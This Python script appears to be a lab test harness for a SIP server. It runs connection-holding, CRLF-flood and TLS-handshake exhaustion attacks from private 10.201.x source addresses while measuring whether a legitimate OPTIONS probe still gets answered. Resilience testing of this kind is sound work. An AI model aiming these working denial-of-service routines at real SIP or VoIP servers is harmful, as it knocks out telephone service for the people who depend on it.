"""Attacks by streams that give no message. Prints one JSON object. Uses nothing but the library.

hold TARGET SECONDS       100 sources (10.201.1-13.1-8) hold 100 connections each, one keep-alive a second
                          on all of them in turn; beside them a newcomer connects and asks twice a second
line-ends TARGET SECONDS  four connections send line ends without pause; beside them one asks by UDP
handshakes TARGET COUNT   so many TLS handshakes from one address, none of which goes on
"""

import json
import select
import socket
import ssl
import sys
import threading
import time

what, target, amount = sys.argv[1], sys.argv[2], float(sys.argv[3])
NEWCOMER, ATTACKER = "10.201.200.1", "10.201.100.1"


def connect(source, port=5060):
    one = socket.socket()
    one.settimeout(2)
    one.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    one.bind((source, 0))
    one.connect((target, port))
    return one


def question(transport, number, source):
    return (
        f"OPTIONS sip:{target} SIP/2.0\r\nVia: SIP/2.0/{transport} {source}:5060;branch=z9hG4bK{number}\r\n"
        f"From: <sip:watch@{source}>;tag={number}\r\nTo: <sip:{target}>\r\nCall-ID: {number}\r\n"
        "CSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n"
    ).encode()


def hold(seconds):
    held, asked, answered = [], 0, 0
    for index in range(10_000):
        source = index // 100
        try:
            held.append(connect(f"10.201.{1 + source // 8}.{1 + source % 8}"))
        except OSError:
            continue
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for one in held:
            try:
                one.send(b"\r\n\r\n")
            except OSError:
                pass
        asked += 1
        try:
            one = connect(f"10.201.{100 + asked % 150}.1")
            one.send(question("TCP", asked, NEWCOMER))
            answered += one.recv(65_535).startswith(b"SIP/2.0 200")
            one.close()
        except OSError:
            pass
        time.sleep(0.5)
    open_yet = 0
    for one in held:
        one.setblocking(False)
        try:
            open_yet += one.recv(1) != b""
        except BlockingIOError:
            open_yet += 1
        except OSError:
            pass
    return {"held": len(held), "open_yet": open_yet, "asked": asked, "answered": answered}


def line_ends(seconds):
    stop, sent, waits = threading.Event(), [0], []
    flood = b"\r\n" * 65_536

    def pour():
        one = connect(ATTACKER)
        while not stop.is_set():
            try:
                sent[0] += one.send(flood)
            except OSError:
                return

    pouring = [threading.Thread(target=pour) for _ in range(4 if seconds > 0 else 0)]
    for each in pouring:
        each.start()
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind((NEWCOMER, 0))
    lost = 0
    for number in range(100):
        begun = time.monotonic()
        one.sendto(question("UDP", number, NEWCOMER), (target, 5060))
        if select.select([one], [], [], 2)[0]:
            one.recv(65_535)
            waits.append((time.monotonic() - begun) * 1000)
        else:
            lost += 1
        time.sleep(max(0.0, abs(seconds) / 100))
    stop.set()
    for each in pouring:
        each.join()
    waits.sort()
    return {
        "mib": sent[0] / 1_048_576,
        "lost": lost,
        "median_ms": waits[len(waits) // 2],
        "p99_ms": waits[int(len(waits) * 0.99)],
    }


def handshakes(count):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    done = 0
    for _ in range(int(count)):
        try:
            one = context.wrap_socket(connect(ATTACKER, 5061))
        except OSError:
            break
        done += 1
        one.close()
    return {"done": done}


run = {"hold": hold, "line-ends": line_ends, "handshakes": handshakes}[what]
print(json.dumps(run(amount)), flush=True)
